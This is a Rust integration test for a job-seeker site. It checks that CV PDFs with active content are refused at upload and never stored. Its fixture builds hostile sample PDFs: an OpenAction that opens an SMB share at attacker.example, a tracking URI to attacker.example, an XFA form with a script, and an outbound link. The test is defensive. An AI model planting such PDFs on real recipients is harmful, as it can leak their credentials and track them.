//! A CV with active content is refused at the real upload route, on both backends, with a
//! message the seeker can act on, and nothing of it is kept.

use actix_web::http::StatusCode;
use diesel::prelude::*;
use lopdf::{Object, dictionary};

use crate::common::{Backend, TestApp, seed_demo, signed_in, with_conn};
use crate::seekers::upload_to;
use sibuser::schema::{job_seekers, users};

/// A one-page PDF written by lopdf: `catalog` and `page` entries are added to those objects.
fn pdf(catalog: &[(&str, Object)], page: &[(&str, Object)]) -> Vec<u8> {
    use lopdf::{Document, Stream};
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let content = doc.add_object(Stream::new(dictionary! {}, b"BT ET".to_vec()));
    let mut page_dict = dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content,
    };
    for (key, value) in page {
        page_dict.set(*key, value.clone());
    }
    let page_id = doc.add_object(page_dict);
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
        }),
    );
    let mut catalog_dict = dictionary! { "Type" => "Catalog", "Pages" => pages_id };
    for (key, value) in catalog {
        catalog_dict.set(*key, value.clone());
    }
    let catalog_id = doc.add_object(catalog_dict);
    doc.trailer.set("Root", catalog_id);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

fn hostile_cvs() -> Vec<(&'static str, Vec<u8>)> {
    let smb = dictionary! {
        "S" => "GoToR",
        "F" => Object::string_literal("\\\\attacker.example\\share\\cv.pdf"),
        "D" => vec![0.into(), "Fit".into()],
    };
    let uri = dictionary! {
        "S" => "URI", "URI" => Object::string_literal("https://attacker.example/track"),
    };
    let xfa = dictionary! {
        "Fields" => Vec::<Object>::new(),
        "XFA" => Object::string_literal("<xdp:xdp><template><subform><script>app.alert(1)</script></subform></template></xdp:xdp>"),
    };
    let link = dictionary! {
        "Type" => "Annot", "Subtype" => "Link",
        "Rect" => vec![72.into(), 700.into(), 300.into(), 720.into()],
        "A" => uri.clone(),
    };
    vec![
        (
            "GoToR to an SMB share on opening",
            pdf(&[("OpenAction", smb.into())], &[]),
        ),
        (
            "a web address opened on opening",
            pdf(&[("OpenAction", uri.into())], &[]),
        ),
        (
            "an XFA form with a script",
            pdf(&[("AcroForm", xfa.into())], &[]),
        ),
        (
            "a link out",
            pdf(&[], &[("Annots", vec![link.into()].into())]),
        ),
    ]
}

fn cv_file(app: &TestApp) -> Option<String> {
    with_conn(app, |c| {
        job_seekers::table
            .inner_join(users::table)
            .filter(users::email.eq("pencaker@sibuser.example"))
            .select(job_seekers::cv_file)
            .first::<Option<String>>(c)
            .optional()
            .unwrap()
            .flatten()
    })
}

async fn a_cv_with_active_content_is_refused(backend: Backend) {
    // A data folder of this test's own, so that "no file written" can be seen.
    let data = tempfile::tempdir().unwrap();
    let data_dir = data.path().to_str().unwrap();
    let Some(app) = TestApp::spawn_with(backend, &[("SIBUSER_DATA_DIR", data_dir)]).await else {
        return;
    };
    seed_demo(&app);
    let seeker = signed_in(&app, "pencaker@sibuser.example").await;
    for (what, bytes) in hostile_cvs() {
        let res = upload_to(&seeker, "/pencaker/cv", "CV Siti.pdf", &bytes).await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{what}");
        assert_eq!(
            res.header("location"),
            Some("/pencaker/profil/cv"),
            "{what}"
        );
        let page = seeker.get("/pencaker/profil/cv").await;
        page.assert_contains("CV berisi konten aktif");
        page.assert_contains("Simpan ulang sebagai PDF biasa");
        // The upload form is there to try again.
        page.assert_contains(r#"id="cv-file""#);
        page.assert_lacks("CV Siti.pdf");
        assert_eq!(cv_file(&app), None, "{what}: nothing is recorded");
        let cv_dir = data.path().join("cv");
        let written = std::fs::read_dir(&cv_dir).map_or(0, |d| d.count());
        assert_eq!(written, 0, "{what}: no file is written");
    }

    // In English too.
    seeker.set_cookie("lang", "en");
    let (_, bytes) = hostile_cvs().remove(0);
    upload_to(&seeker, "/pencaker/cv", "cv.pdf", &bytes).await;
    seeker
        .get("/pencaker/profil/cv")
        .await
        .assert_contains("The CV holds active content");

    // A plain PDF is still taken.
    let res = upload_to(&seeker, "/pencaker/cv", "CV Siti.pdf", &pdf(&[], &[])).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    assert!(cv_file(&app).is_some());
}

mod a_cv_with_active_content_is_refused_at_the_upload {
    use super::*;

    #[actix_web::test]
    async fn sqlite() {
        a_cv_with_active_content_is_refused(Backend::Sqlite).await;
    }

    #[actix_web::test]
    async fn postgres() {
        a_cv_with_active_content_is_refused(Backend::Postgres).await;
    }
}
